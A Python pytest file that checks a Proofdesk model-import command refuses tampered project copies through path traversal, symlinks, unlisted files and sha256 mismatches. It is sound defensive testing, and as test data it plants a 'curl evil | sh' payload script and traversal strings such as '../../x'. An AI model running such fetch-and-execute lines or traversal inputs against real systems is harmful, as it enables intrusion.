"""``proofdesk models import --from COPY`` takes nothing from the copy on trust: names and paths stay
inside their roots, the model folder holds exactly the files its ``model.json`` lists (with their
sha256), and a folder that is not a project is left as it was. Through the real command line;
the copy's records are tampered with in SQL, as someone handing over a copy could."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sqlite3
from pathlib import Path

import pytest

from app.cli import main
from core import registry, runs
from core.project import Project

#: A run's model folder as the worker exports it: the recogniser, its calibration, its detector.
FILES = {"model.onnx": b"weights", "calibration.json": b'{"slope": 1.0}', "charset.txt": b"a\nb\n",
         "det/model.onnx": b"detector weights", "det/model.json": b'{"id": "run-1-det"}'}


def write_model(folder: Path, files: dict[str, bytes] = FILES) -> str:
    """The files, and ``model.json`` listing each with its sha256. Returns model.onnx's sha256."""
    for rel, data in files.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    manifest = {rel: hashlib.sha256(data).hexdigest() for rel, data in files.items()}
    (folder / "model.json").write_text(json.dumps({"id": folder.name, "files": manifest}))
    return manifest["model.onnx"]


@pytest.fixture
def copy(project, one_line_version, tmp_path):
    """(here, copy): a project and a copy of it where run 1 was done (its model in models/run-1)."""
    store = project.store
    version = one_line_version
    store.close()
    shutil.copytree(project.root, tmp_path / "copy")  # what goes to the GPU machine
    other = Project.open(tmp_path / "copy")
    run = runs.create(other.store, "lead", version.id, {"epochs": 1})
    runs.mark_running(other.store, run.id, 1, {"host": "gpu-box", "device": "cuda"}, {})
    folder = other.root / "models" / "run-1"
    folder.mkdir(parents=True)
    sha = write_model(folder)
    runs.finish(other.store, "lead", run.id, "models/run-1", sha, {"val_cer": 0.01, "active_val_cer": 0.2}, "run-1",
                4.0, "cuda")
    other.close()
    return project.root, tmp_path / "copy"


def tamper(copy: Path, sql: str, *args) -> None:
    conn = sqlite3.connect(copy / "proofdesk.db")
    with conn:
        conn.execute(sql, args)
    conn.close()


def tree(top: Path) -> set[str]:
    """Every path under ``top`` but the database's own files (opening a database may add a -wal)."""
    return {str(p.relative_to(top)) for p in top.rglob("*") if not p.name.startswith("proofdesk.db")}


def counts(root: Path) -> tuple[int, int]:
    conn = sqlite3.connect(root / "proofdesk.db")
    try:
        return tuple(conn.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0]
                     for t in ("model_versions", "training_runs"))
    finally:
        conn.close()


def refused(capsys, root: Path, source: Path, *words: str) -> None:
    """``models import`` fails with one line naming ``words``, and writes nothing anywhere."""
    top = root.parent
    before, rows = tree(top), counts(root)
    code = main(["--user", "lead", "models", "import", str(root), "--from", str(source), "--run", "1"])
    out = capsys.readouterr()
    assert code == 1 and "imported" not in out.out, out
    assert out.err.strip().count("\n") == 0 and out.err.startswith("proofdesk: error: "), out.err
    assert all(w in out.err for w in words), out.err
    assert tree(top) == before and counts(root) == rows


def test_a_good_copy_still_imports(copy, capsys):
    root, source = copy
    code = main(["--user", "lead", "models", "import", str(root), "--from", str(source), "--run", "1"])
    assert code == 0 and "imported run 1" in capsys.readouterr().out
    here = Project.open(root)
    try:
        (mv,) = registry.versions(here.store)
        assert mv.name == "run-1" and mv.path == "models/run-1"
    finally:
        here.close()
    assert {str(p.relative_to(root / "models" / "run-1")) for p in (root / "models" / "run-1").rglob("*")
            if p.is_file()} == set(FILES) | {"model.json"}
    assert (root / "models" / "run-1" / "det" / "model.onnx").read_bytes() == FILES["det/model.onnx"]


def test_a_name_that_climbs_out_of_the_project_is_refused(copy, capsys):
    root, source = copy
    tamper(source, "UPDATE model_versions SET name = '../../x'")
    refused(capsys, root, source, "../../x", "name")
    assert not (root.parent / "x").exists() and not (root / "x").exists()


def test_an_absolute_name_is_refused(copy, capsys, tmp_path):
    root, source = copy
    target = tmp_path / "elsewhere"
    tamper(source, "UPDATE model_versions SET name = ?", str(target))
    (source / "models" / "run-1" / "payload.sh").write_text("echo owned\n")
    refused(capsys, root, source, "name")
    assert not target.exists()


@pytest.mark.parametrize("path", ["../outside", "ABS", "models", ".", "models/run-1/../../../outside"])
def test_a_model_path_outside_the_copy_is_refused(copy, capsys, tmp_path, path):
    root, source = copy
    outside = tmp_path / "outside"
    outside.mkdir()
    sha = write_model(outside)
    tamper(source, "UPDATE model_versions SET path = ?", str(outside) if path == "ABS" else path)
    tamper(source, "UPDATE model_versions SET sha256 = ?", sha)
    refused(capsys, root, source, "path")


def test_a_model_folder_that_is_a_symlink_is_refused(copy, capsys, tmp_path):
    root, source = copy
    outside = tmp_path / "outside"
    shutil.move(source / "models" / "run-1", outside)
    os.symlink(outside, source / "models" / "run-1")
    refused(capsys, root, source, "link")


def test_a_symlinked_file_in_the_model_folder_is_refused(copy, capsys, tmp_path):
    root, source = copy
    secret = tmp_path / "secret.txt"
    secret.write_bytes(FILES["calibration.json"])
    cal = source / "models" / "run-1" / "calibration.json"
    cal.unlink()
    os.symlink(secret, cal)
    refused(capsys, root, source, "calibration.json", "link")


def test_a_file_the_model_does_not_list_is_refused(copy, capsys):
    root, source = copy
    (source / "models" / "run-1" / "payload.sh").write_text("curl evil | sh\n")
    refused(capsys, root, source, "payload.sh")


def test_a_file_whose_sha256_differs_is_refused(copy, capsys):
    root, source = copy
    (source / "models" / "run-1" / "det" / "model.onnx").write_bytes(b"other detector weights")
    refused(capsys, root, source, "det/model.onnx", "sha256")


def test_a_missing_file_is_refused(copy, capsys):
    root, source = copy
    (source / "models" / "run-1" / "calibration.json").unlink()
    refused(capsys, root, source, "calibration.json", "missing")


def test_a_model_json_without_its_file_list_is_refused(copy, capsys):
    root, source = copy
    (source / "models" / "run-1" / "model.json").write_text("{}")
    refused(capsys, root, source, "model.json")


def test_a_recogniser_other_than_the_registered_one_is_refused(copy, capsys):
    root, source = copy
    sha = write_model(source / "models" / "run-1", {**FILES, "model.onnx": b"swapped weights"})
    assert sha != hashlib.sha256(FILES["model.onnx"]).hexdigest()
    refused(capsys, root, source, "sha256")


def test_a_folder_that_is_not_a_project_is_left_as_it_was(copy, capsys, tmp_path):
    root, _ = copy
    plain = tmp_path / "plain"
    plain.mkdir()
    refused(capsys, root, plain, "not a Proofdesk project", "no proofdesk.db")
    assert list(plain.iterdir()) == []
    refused(capsys, root, tmp_path / "nope", "not a Proofdesk project")
    assert not (tmp_path / "nope").exists()


def test_register_refuses_unsafe_names_and_paths(project):
    from core.errors import ProofdeskError

    for name in ("../x", "/abs", ".", "..", "", "a/b", "a" * 65, "-lead", "x\n"):
        with pytest.raises(ProofdeskError, match="name"):
            registry.register(project.store, "lead", name, registry.RECOGNITION, "models/x", "0" * 64)
    for path in ("../x", "/abs/x", "models/../../x", ""):
        with pytest.raises(ProofdeskError, match="path"):
            registry.register(project.store, "lead", "ok", registry.RECOGNITION, path, "0" * 64)
    assert registry.versions(project.store) == []
    assert registry.register(project.store, "lead", "run-1.b_2", registry.RECOGNITION, "models/run-1.b_2",
                             "0" * 64).name == "run-1.b_2"
